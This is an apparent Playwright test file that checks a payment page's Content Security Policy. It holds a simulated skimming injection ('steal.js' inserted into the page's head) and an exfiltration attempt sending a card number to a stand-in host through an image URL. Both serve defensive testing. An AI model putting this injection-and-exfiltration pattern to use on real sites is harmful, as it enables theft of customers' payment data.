import type { Page } from '@playwright/test';
import { expect, test } from './support/test';

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>';

/** What browsers reported of one address. */
async function reportsOf(page: Page, blocked: string): Promise<readonly string[]> {
  const response = await page.request.get('/sandbox/api/policy-reports');
  const reports = (await response.json()) as { page: string; directive: string; blocked: string }[];
  return reports
    .filter((report) => report.blocked.endsWith(blocked))
    .map((report) => `${report.directive} at ${new URL(report.page).pathname}`);
}

test.describe('payment-page', () => {
  test.use({ refusedOnPurpose: true });

  test('a script of the own origin that was not composed does not run there, nor does a picture come from anywhere; both are reported', async ({
    page,
  }) => {
    let pictures = 0;
    await page.route('https://elsewhere.example/**', (route) => {
      pictures += 1;
      return route.fulfill({ contentType: 'image/svg+xml', body: SVG });
    });
    await page.route('**/remotes/checkout/0.0.1/steal.js', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: 'globalThis.stolen = true' }),
    );
    await page.route('/confirmation/**', async (route) => {
      const response = await route.fetch();
      const added = '<script src="/remotes/checkout/0.0.1/steal.js"></script></head>';
      await route.fulfill({ response, body: (await response.text()).replace('</head>', () => added) });
    });
    await page.goto('/confirmation/loc-001_1/1');
    await expect(page.getByRole('heading', { level: 1, name: 'Confirm your charge' })).toBeVisible();
    await page.evaluate(() => {
      document.createElement('img').src = 'https://elsewhere.example/payment-page.png?card=4242';
    });
    expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
    await expect
      .poll(() => reportsOf(page, '/remotes/checkout/0.0.1/steal.js'))
      .toContain('script-src-elem at /confirmation');
    await expect
      .poll(() => reportsOf(page, 'https://elsewhere.example/payment-page.png'))
      .toContain('img-src at /confirmation');
    expect(pictures).toBe(0);
  });

  test('a station’s picture of a host that the environment does not name is not loaded, and the page stays whole', async ({
    page,
    sandbox,
  }) => {
    const url = 'https://unknown-host.example/picture.png';
    const station = await sandbox.station({ patch: { images: [{ url, category: 'CHARGER', type: 'png' }] } });
    let pictures = 0;
    await page.route(url, (route) => {
      pictures += 1;
      return route.fulfill({ contentType: 'image/svg+xml', body: SVG });
    });
    await page.goto(station.path);
    await expect(page.getByRole('img', { name: 'This picture could not be loaded' })).toBeVisible();
    await expect(page.getByRole('button', { name: /kW/ }).first()).toBeEnabled();
    expect(pictures).toBe(0);
  });
});
